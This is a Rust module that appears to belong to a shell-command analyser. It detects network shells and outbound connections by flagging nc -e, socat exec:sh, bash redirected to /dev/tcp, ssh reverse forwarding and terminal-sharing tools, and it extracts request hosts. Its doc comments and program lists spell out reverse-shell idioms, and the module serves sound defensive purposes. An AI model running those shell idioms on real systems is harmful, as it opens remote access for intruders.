//! Programs that talk to other machines: whom they ask, and shells over the network.

use super::clients::values;
use super::fetched::{is_interpreter, is_shell};
use super::{Meaning, ShellCall};
use crate::pure::dataflow::{CURL, WGET, fed, is_wire, is_wire_path};
use crate::pure::shell::{Command, Piece, Word, WordPart, pieces};
use crate::pure::step::address::{host_of, is_metadata, is_near};
use crate::pure::step::effect::Effect;
use std::borrow::Cow;

/// Other commands beyond this many are not looked at for a connection that stays open.
const MAX_LOOKED_AT: usize = 64;

/// The programs that are asked about here, besides wires and shells.
pub(crate) const PROGRAMS: &str = "curl wget wget2 http https xh aria2c axel lynx w3m curlie ssh ttyd \
    gotty shellinaboxd tmate upterm sshx cryptcat";

/// Programs that may pass bytes between this machine and another as they are.
pub(crate) const WIRES: &str = "nc ncat netcat nc.traditional nc.openbsd socat telnet openssl";

pub(crate) fn survey(program: &str, call: &ShellCall<'_>, meaning: &mut Meaning) {
    let how = match program {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "cryptcat" => executes(call),
        "ttyd" | "gotty" | "shellinaboxd" | "tmate" | "upterm" | "sshx" => shares_terminal(program, call),
        "socat" => connects_shell(call),
        "ssh" => lets_in(call),
        name if is_shell(name) => shell_on_wire(call),
        _ => None,
    };
    let how = how.or_else(|| is_wire(program, call.arguments()).and_then(|wire| fed_by_shell(wire, call)));
    meaning.effects.extend(how.map(|how| Effect::NetworkShell { how }));
    for host in hosts(program, call) {
        if !is_near(&host) {
            meaning.effects.push(Effect::Network { host });
        }
    }
}

/// `nc -e program`, `ncat --sh-exec text`
fn executes(call: &ShellCall<'_>) -> Option<String> {
    let mut words = call.arguments().iter();
    while let Some(word) = words.next() {
        let text = word.literal_prefix();
        let (long, value) = match text.split_once('=') {
            Some((name, value)) => (name, value.to_owned()),
            None => {
                (text, words.clone().next().map(|word| word.text_lossy().into_owned()).unwrap_or_default())
            }
        };
        let cluster = text.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
        let executed = match cluster {
            Some(rest) if rest.ends_with('e') => true,
            Some(rest) if rest.ends_with('c') => runs_shell(&value) || value.contains(' '),
            Some(rest) => rest.starts_with("e/") || rest.starts_with("c/"),
            None => matches!(long, "--exec" | "--sh-exec" | "--lua-exec"),
        };
        if executed {
            return Some(format!("`{}` with `{text}`", call.command.program().unwrap_or("nc")));
        }
    }
    None
}

/// Whether a text names a shell or an interpreter.
pub(super) fn runs_shell(text: &str) -> bool {
    let first = text.trim_start_matches(['"', '\'']).split([' ', ',', '"', '\'']).next().unwrap_or(text);
    let program = first.rsplit(['/', '\\']).next().unwrap_or(first).trim_end_matches(".exe");
    is_shell(program) || is_interpreter(program) || matches!(program, "login" | "cmd" | "busybox")
}

/// A shell that takes what it is given: `/bin/sh -i`, `bash <&3 >&3`.
pub(crate) fn is_open_shell(text: &str) -> bool {
    let mut words = text.split_whitespace();
    let shell = words.next().is_some_and(runs_shell);
    shell && words.all(|word| word.starts_with('-') || word.contains("<&") || word.contains(">&"))
}

/// `ssh -R 2222:localhost:22 host` lets that machine sign in to this one.
fn lets_in(call: &ShellCall<'_>) -> Option<String> {
    let forwarded = values(call.arguments(), "-R").into_iter();
    forwarded
        .into_iter()
        .any(|text| text.ends_with(":22"))
        .then(|| "a way back to this machine's ssh".to_owned())
}

/// Programs that are there to show a terminal to others.
fn shares_terminal(program: &str, call: &ShellCall<'_>) -> Option<String> {
    let only_tells =
        |text: &str| matches!(text, "--version" | "-V" | "-v" | "--help" | "-h" | "version" | "help");
    (!call.literals().any(only_tells)).then(|| format!("`{program}`"))
}

/// `socat tcp:host:port exec:sh`
fn connects_shell(call: &ShellCall<'_>) -> Option<String> {
    let lower: Vec<String> =
        call.arguments().iter().map(|word| word.text_lossy().to_ascii_lowercase()).collect();
    let runs = |text: &String| {
        ["exec:", "system:", "shell:"].iter().filter_map(|kind| text.strip_prefix(kind)).any(runs_shell)
    };
    let wire = |text: &String| {
        ["tcp", "udp", "openssl", "ssl", "sctp", "vsock", "socks", "proxy"]
            .iter()
            .any(|kind| text.starts_with(kind))
    };
    (lower.iter().any(runs) && lower.iter().any(wire)).then(|| "`socat` with a shell at its end".to_owned())
}

/// `bash -i >& /dev/tcp/host/port`, or after `exec 5<>/dev/tcp/host/port`
fn shell_on_wire(call: &ShellCall<'_>) -> Option<String> {
    let on_wire = |command: &Command| command.redirects.iter().any(|redirect| is_wire_path(&redirect.target));
    let has_script = call.arguments().iter().any(|word| !word.reads_as_option());
    let opened = || {
        !has_script
            && call.others.iter().take(MAX_LOOKED_AT).any(|other| match other.program() {
                Some("ztcp") => true,
                Some("exec") | None => on_wire(other),
                Some(_) => false,
            })
    };
    let through_coprocess = || {
        let reads = |redirect: &crate::pure::shell::Redirect| redirect.target.text_lossy().contains("COPROC");
        let is_connected = |other: &crate::pure::shell::Command| {
            other.program().is_some_and(|program| is_wire(program, other.arguments()).is_some())
        };
        call.command.redirects.iter().any(reads) && call.others.iter().any(is_connected)
    };
    (on_wire(call.command) || opened() || through_coprocess()).then(|| "a shell on /dev/tcp".to_owned())
}

/// `… | sh | nc host port`, also in a loop through a named pipe.
fn fed_by_shell(wire: &str, call: &ShellCall<'_>) -> Option<String> {
    let behind = call.upstream(fed(call.command));
    let open_shell = |command: &Command| {
        let program = command.program().is_some_and(is_shell);
        program
            && command.arguments().iter().all(|word| word.reads_as_option() && word.literal() != Some("-c"))
    };
    behind
        .iter()
        .any(|(_, command)| open_shell(command))
        .then(|| format!("a shell whose output goes to {wire}"))
}

/// The hosts that a request goes to, where the words spell them out.
fn hosts(program: &str, call: &ShellCall<'_>) -> Vec<String> {
    let wire_paths = call.command.redirects.iter().filter_map(|redirect| {
        let text = redirect.target.literal()?;
        host_of(text.strip_prefix("/dev/tcp/").or_else(|| text.strip_prefix("/dev/udp/"))?)
    });
    let mut hosts: Vec<String> = wire_paths.collect();
    let valued = match program {
        "curl" => CURL,
        "wget" | "wget2" => WGET,
        "http" | "https" | "xh" | "aria2c" | "axel" | "lynx" | "w3m" | "curlie" => {
            "-o -d -a --output --dir --auth"
        }
        "nc" | "ncat" | "netcat" | "telnet" => "-p -s -w -i -x -X -q",
        _ => return hosts,
    };
    for piece in pieces(call.arguments(), valued) {
        let word = match piece {
            Piece::Operand(word) => Cow::Borrowed(word),
            Piece::Option("--url", Some(value)) => value.word(),
            Piece::Option(_, _) | Piece::Separator => continue,
        };
        let text = known_front(&word);
        let named = text.contains("://") || text.contains('.') || text.starts_with("localhost");
        hosts.extend(host_of(&text).filter(|host| named || is_metadata(host)));
    }
    hosts
}

/// The text of an address as far as its host may be read: up to where only the run knows.
fn known_front(word: &Word) -> Cow<'_, str> {
    if let Some(text) = word.literal() {
        return Cow::Borrowed(text);
    }
    let mut front = String::new();
    for part in &word.parts {
        match part {
            WordPart::Literal(text) | WordPart::Glob(text) => front.push_str(text),
            _ => {
                let after_scheme = front.split_once("://").map_or(front.as_str(), |(_, rest)| rest);
                // A host that goes on in a variable is not known.
                return if after_scheme.contains(['/', '?', ':']) { front } else { String::new() }.into();
            }
        }
    }
    front.into()
}
